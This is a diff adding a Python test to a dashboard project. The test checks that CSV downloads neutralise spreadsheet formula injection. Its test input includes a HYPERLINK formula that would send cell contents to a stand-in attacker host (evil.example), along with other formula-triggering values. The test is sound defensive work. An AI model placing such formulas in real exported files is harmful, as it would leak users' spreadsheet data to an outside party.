@@ -350,3 +350,20 @@ def test_explorer_highlights_anomalies(ctx):
     assert view.note.endswith(("anomalies found", "anomaly found")) or view.note == "No anomalies found"
     assert view.note != "1 anomalies found"
     assert view.trend.layout.meta["metric"] == state["metric"]  # what the chart shows, readable by the page
+
+
+def test_csv_download_neutralises_spreadsheet_formulas(ctx):
+    """A cell or header that a spreadsheet would run as a formula is written as text."""
+    import csv
+    import io
+
+    from dashboards.pages.ask_actions import run_sql
+
+    sid = new_session_id()
+    run_sql(ctx, sid, "", "SELECT '=HYPERLINK(\"http://evil.example/?\"&A1)' AS \"@leak\", '+1+1' AS p, "
+            "'-2' AS m, '@SUM(A1)' AS a, city, -5 AS n FROM dim_region ORDER BY city_id LIMIT 1", "en")
+    answer_id = list(ctx.session(sid).answers)[-1]
+    rows = list(csv.reader(io.StringIO(ask.csv_download(ctx, sid, answer_id)["content"].lstrip("\ufeff"))))
+    assert rows[0] == ["'@leak", "p", "m", "a", "City", "n"]
+    assert rows[1][:4] == ["'=HYPERLINK(\"http://evil.example/?\"&A1)", "'+1+1", "'-2", "'@SUM(A1)"]
+    assert float(rows[1][5]) == -5  # numbers stay numbers (no apostrophe)
